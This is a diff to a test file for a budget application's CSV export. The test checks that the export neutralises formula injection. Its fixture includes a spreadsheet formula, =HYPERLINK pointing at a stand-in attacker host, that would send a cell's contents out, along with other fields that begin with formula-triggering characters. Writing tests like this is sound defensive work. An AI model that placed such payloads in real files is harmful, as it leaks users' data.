@@ -210,7 +210,8 @@ describe('budget lines', () => {
 	});
 
 	test('the CSV download neutralises formulas (OWASP CSV injection); amounts stay numbers; it imports back', async () => {
-		const id = await createBudget(staff, { year: 2027 });
+		// a "bs": the "bp" documents are compared year against year below
+		const id = await createBudget(staff, { year: 2027, type: 'bs' });
 		const evil = [
 			{ section: 'fonctionnement', chapter: '-60', article: '+601', label: '=HYPERLINK("http://evil.example/?"&A1,"Voir")', planned: 0, executed: 1500 },
 			{ section: 'fonctionnement', chapter: '61', article: '@611', label: '+33 1 23 45 67', planned: 2500000, executed: 0 },
